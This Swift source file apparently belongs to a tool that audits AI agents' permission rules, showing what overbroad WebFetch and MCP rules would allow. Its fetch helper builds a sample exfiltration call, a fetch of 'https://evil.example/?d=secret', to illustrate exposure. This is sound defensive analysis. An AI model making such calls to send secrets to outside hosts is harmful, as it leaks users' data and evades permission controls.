internal import PermissionEngine
internal import RuleSyntax
internal import ThreatKnowledge

/// Calls of the web and of MCP servers that a rule might let through.
enum RemoteCandidates {
  /// Candidates for a WebFetch rule.
  static func fetching(_ rule: Rule) -> [ExposureCandidate] {
    guard case .domain(let bytes)? = rule.specifier?.meaning else {
      guard RuleScope(rule).isWholeTool else { return [] }
      return [
        fetch("evil.example", .free, why: "Every host may be fetched, and an address carries data", true)
      ]
    }
    let domain = String(decoding: bytes, as: UTF8.self).lowercased()
    if domain == "*" {
      return [
        fetch("evil.example", .free, why: "Every host may be fetched, and an address carries data", true)
      ]
    }
    if domain.hasPrefix("*."), OpenHosts.isOpen(suffix: String(domain.dropFirst(2))) {
      return [
        fetch("evil" + domain.dropFirst(), .option, why: "Anybody can get a name below this one", false)
      ]
    }
    if OpenHosts.isSink(domain.hasPrefix("*.") ? String(domain.dropFirst(2)) : domain) {
      let host = domain.hasPrefix("*.") ? "x" + domain.dropFirst() : domain
      return [fetch(host, .option, why: "The host takes in data from anybody", false)]
    }
    return []
  }

  private static func fetch(
    _ host: String, _ reach: Reach, why: String, _ isWholeTool: Bool
  ) -> ExposureCandidate {
    ExposureCandidate(
      call: ToolCall(
        tool: "WebFetch", input: ["url": .string("https://\(host)/?d=secret"), "prompt": .string("x")]),
      capability: .networkSend, reach: reach, why: why,
      otherwise: isWholeTool ? "name the hosts that are needed: `WebFetch(domain:HOST)`" : nil,
      isWholeTool: isWholeTool)
  }

  /// Candidates for an MCP rule: `mcp__server`, `mcp__server__*`, `mcp__server__tool`.
  static func calling(_ rule: Rule) -> [ExposureCandidate] {
    let name = String(decoding: rule.tool.bytes, as: UTF8.self)
    guard let (server, tool) = parts(of: name) else { return [] }
    guard let tool, !tool.contains("*") else {
      guard !RemoteTools.isHarmless(server: server) else { return [] }
      return wholeServer(server, prefix: tool.map { String($0.prefix { $0 != "*" }) } ?? "")
    }
    guard let capability = RemoteTools.capability(ofTool: tool) else { return [] }
    return [
      ExposureCandidate(
        call: ToolCall(tool: name), capability: capability, reach: .bounded,
        why: "Its name says that it runs or changes something")
    ]
  }

  private static func wholeServer(_ server: String, prefix: String) -> [ExposureCandidate] {
    let gravest = RemoteTools.gravestTool(of: server)
    guard !prefix.isEmpty else {
      return [
        ExposureCandidate(
          call: ToolCall(tool: "mcp__\(server)__\(gravest.name)"),
          capability: gravest.capability ?? .cloudMutate,
          effect: gravest.capability == nil ? "every tool of a server run, whatever it changes" : nil,
          reach: gravest.capability == nil ? .option : .free,
          why: "Every tool of the server is allowed, those it gets later too",
          otherwise: "name the tools that are needed: `mcp__\(server)__TOOL`", isWholeTool: true)
      ]
    }
    guard let capability = gravest.capability, gravest.name.hasPrefix(prefix) else { return [] }
    return [
      ExposureCandidate(
        call: ToolCall(tool: "mcp__\(server)__\(gravest.name)"), capability: capability, reach: .bounded,
        why: "The wildcard covers every tool whose name begins so")
    ]
  }

  /// Server and tool of an MCP name; the tool is nil for a whole server.
  static func parts(of name: String) -> (server: String, tool: String?)? {
    let bytes = Array(name.utf8)
    let prefix = Array("mcp__".utf8)
    guard bytes.starts(with: prefix) else { return nil }
    let rest = bytes[prefix.count...]
    let underscore = UInt8(ascii: "_")
    for index in rest.indices.dropFirst() where index + 1 < rest.endIndex {
      if rest[index] == underscore, rest[index + 1] == underscore {
        let tool = String(decoding: rest[(index + 2)...], as: UTF8.self)
        return (String(decoding: rest[..<index], as: UTF8.self), tool == "*" || tool.isEmpty ? nil : tool)
      }
    }
    return rest.isEmpty ? nil : (String(decoding: rest, as: UTF8.self), nil)
  }
}
